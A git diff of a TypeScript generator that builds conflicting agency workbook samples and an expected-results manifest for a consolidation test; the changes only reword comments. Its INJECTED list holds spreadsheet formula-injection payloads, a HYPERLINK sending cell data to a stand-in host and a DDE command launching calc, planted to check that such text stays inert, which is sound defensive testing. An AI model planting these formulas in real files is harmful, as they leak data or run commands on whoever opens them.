@@ -28,7 +28,7 @@ import * as hostile from './hostileFiles';
 import { leads, leadsOnCondition, planFacts } from '../../sample/sampleAgencies';
 import { earlierPeriod, sampleYear, type SampleYear } from '../../sample/sampleYear';
 
-/** What became of an agency's workbook: none of its files counts. */
+/** Ways to lose an agency's workbook: none of its files counts. */
 const LOST = [
   { fate: 'missing', share: 0.06, reason: null },
   { fate: 'truncated', share: 0.015, reason: 'host.damaged' },
@@ -42,7 +42,7 @@ const LOST = [
   { fate: 'other-layout', share: 0.005, reason: 'other-layout' },
   { fate: 'agency-unknown', share: 0.005, reason: 'agency-unknown' },
 ] as const;
-/** One of its files counts. */
+/** Cases where one of its files counts. */
 const KEPT = [
   { fate: 'older-and-sealed', share: 0.02 },
   { fate: 'sealed-and-newer', share: 0.01 },
@@ -58,11 +58,11 @@ const KEPT = [
 type Lost = (typeof LOST)[number];
 export type Fate = Lost['fate'] | (typeof KEPT)[number]['fate'] | 'sealed';
 
-/** Of the agencies that can be lost at most this part is, so that enough are left to disagree. */
+/** At most this share of the agencies that can be lost, so that enough are left to disagree. */
 const MOST_LOST = 1 / 3;
 const SHARE_LATE = 0.12;
 
-/** Texts that a spreadsheet program would compute if they arrived as anything but text. */
+/** Texts a spreadsheet program would evaluate if they arrived as anything but text. */
 const INJECTED = [
   '=HYPERLINK("http://example.invalid/?x="&A1,"Xem chi tiết")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -75,13 +75,13 @@ export interface ConflictFile {
   file: string;
   bytes: Uint8Array;
   agency: Agency;
-  /** Day that the file bears. */
+  /** File date. */
   modifiedOn: IsoDate;
   fate: Fate;
-  /** Day of the mark "sẵn sàng gửi" and whether it still holds. */
+  /** Date of the mark "sẵn sàng gửi", and whether it is still intact. */
   sealedOn: IsoDate | null;
   sealState: 'none' | 'intact' | 'changed';
-  /** Why its rows do not count; null where they do. */
+  /** Why its rows do not count; null if they do. */
   rejected: string | null;
 }
 
@@ -98,7 +98,7 @@ export interface ConflictManifest {
   decisions: { kind: string; files: string[]; chosen: string | null }[];
   discrepancies: PlantedDiscrepancy[];
   gaps: PlantedGap[];
-  /** Texts that must arrive as they are. */
+  /** Texts that must arrive unchanged. */
   injected: { agencyId: string; code: string; column: 'note'; text: string }[];
   sums: Expectation;
 }
@@ -109,7 +109,7 @@ export interface ConflictSampleInput {
   seed: number;
   agencies: number;
   onFile: (file: ConflictFile) => void;
-  /** The agencies' workbooks of an earlier period, where the year has one. */
+  /** Receives the agencies' workbooks of an earlier period, if the year has one. */
   onEarlier: (file: string, bytes: Uint8Array) => void;
 }
 
@@ -120,7 +120,10 @@ function shuffled<T>(list: readonly T[], random: Random): T[] {
 
 const LEADERS_KEPT = 2;
 
-/** Who leads most, or alone can disagree on a figure, stays: without them there is little to compare. */
+/**
+ * Agencies that lead most rows, or are the only ones able to disagree on a figure, are kept: without them there is
+ * little to compare.
+ */
 function kept({ plan, catalogue }: Programme, year: SampleYear): Set<string> {
   const led = (agency: Agency): number => year.rowsOf(agency).tasks.filter(leads).length;
   const leaders = [...year.agencies].sort((a, b) => led(b) - led(a)).slice(0, LEADERS_KEPT);
@@ -152,7 +155,7 @@ function fates(agencies: readonly Agency[], keeps: ReadonlySet<string>, random: 
   return all;
 }
 
-/** The workbook marked ready; what stands in the mark's counts is not looked at here. */
+/** The workbook marked as ready; the counts in the mark are irrelevant here. */
 async function sealed(bytes: Uint8Array, on: IsoDate, by: string): Promise<Uint8Array> {
   const host = createFileHost(bytes);
   const counts = { error: 0, warning: 0, hint: 0 };
@@ -162,7 +165,7 @@ async function sealed(bytes: Uint8Array, on: IsoDate, by: string): Promise<Uint8
   return host.bytes();
 }
 
-/** First row of the workbook's first table, and the column with a header. */
+/** The first row of the workbook's first table, and the column with a given header. */
 function firstCell(spec: WorkbookSpec, header: string): { sheet: string; cell: string } {
   for (const { name, rows } of spec.sheets) {
     const column = rows[2]?.findIndex((cell) => cell?.value === header) ?? -1;
@@ -183,7 +186,7 @@ function changeText(spec: WorkbookSpec, code: string): void {
   throw new Error(`${code} is in no sheet`);
 }
 
-/** A row whose code is the name of what every object inherits. */
+/** A row whose code is the name of a property inherited by every object. */
 function addPrototypeRow(spec: WorkbookSpec): void {
   const sheet = spec.sheets.find(({ tables }) => tables.length > 0);
   const copy = sheet?.rows[sheet.rows.length - 1]?.map((cell) => cell && { ...cell });
@@ -200,7 +203,7 @@ function damage(spec: WorkbookSpec, rule: string, random: Random, programme: Pro
     throw new Error(`${rule} cannot be planted`);
 }
 
-/** An earlier state of the same entries: half of the work not told yet. */
+/** An earlier state of the same entries: half of the work not reported yet. */
 function earlierState(entries: AgencyEntries): AgencyEntries {
   const copy = structuredClone(entries);
   Object.keys(copy.tasks).forEach((code, index) => {
@@ -213,7 +216,7 @@ interface Made extends Pick<ConflictFile, 'file' | 'bytes' | 'modifiedOn' | 'sea
   counts: boolean;
 }
 
-/** The files of one agency, and how the one that counts is to be told from the rest. */
+/** The files of one agency, and how the one that counts is to be distinguished. */
 async function filesOf(
   agency: Agency,
   fate: Fate,
@@ -228,7 +231,7 @@ async function filesOf(
   const by = String(entries.preparedBy);
   const isLate = random.chance(SHARE_LATE);
   const sentOn = addDays(period.sendBy, isLate ? random.whole(1, 10) : -random.whole(0, 5));
-  // An attachment that is saved gets a new day: the mark is the better witness.
+  // Saving an attachment changes its date: the seal is better evidence.
   const savedOn = random.chance(0.3) ? addDays(sentOn, random.whole(1, 9)) : sentOn;
   const build = (of: AgencyEntries) => {
     const spec = year.specOf(agency, of);
@@ -310,7 +313,7 @@ async function filesOf(
       };
     case 'copy': {
       const made = await marked(name, await writeXlsx(spec), true);
-      // Of two equal ones the later name counts ("." comes after " "); nobody needs to decide.
+      // Of two identical files the later name counts ("." sorts after " "); no decision is needed.
       return { files: [made, { ...made, file: second, counts: false }], decision: null };
     }
     case 'changed-after-seal': {
@@ -348,7 +351,7 @@ async function filesOf(
   }
 }
 
-/** Formulas as texts in the notes of the agency's first rows. */
+/** Formulas as text in the notes of the agency's first rows. */
 function inject(agencyId: string, entries: AgencyEntries): ConflictManifest['injected'] {
   return Object.keys(entries.tasks)
     .slice(0, INJECTED.length)
@@ -360,8 +363,8 @@ function inject(agencyId: string, entries: AgencyEntries): ConflictManifest['inj
 }
 
 /**
- * What comes back to Sở Nội vụ at the end of a period: most workbooks sealed and in time, and among them every kind of
- * trouble that the consolidation must tell. The manifest is worked out from what was planted, not by the consolidation.
+ * What Sở Nội vụ receives at the end of a period: most workbooks sealed and on time, and among them every kind of
+ * problem the consolidation must report. The manifest is derived from what was planted, not from the consolidation.
  */
 export async function conflictSamples(input: ConflictSampleInput): Promise<ConflictManifest> {
   const { programme, period, seed } = input;
@@ -376,7 +379,7 @@ export async function conflictSamples(input: ConflictSampleInput): Promise<Confl
     year.agencies.map((agency, index) => [agency.id, year.entriesOf(agency, year.randomOf(index))]),
   );
   const entriesOf = ({ id }: Agency) => entered.get(id) as AgencyEntries;
-  // Before any trouble: what was counted by then was right.
+  // Before any damage: the earlier figures were correct.
   const before = new Map(year.agencies.map((agency) => [agency.id, structuredClone(entriesOf(agency))]));
   const reporters = year.agencies
     .filter((agency) => !isLost(agency))
@@ -442,7 +445,7 @@ export async function conflictSamples(input: ConflictSampleInput): Promise<Confl
         agency: name,
         file: made?.file ?? null,
         sentOn,
-        // Nobody is late by the day of a file.
+        // A file date alone makes nobody late.
         late: made?.sealState === 'intact' && sentOn !== null && sentOn > period.sendBy,
         sealState: made?.sealState ?? null,
       };
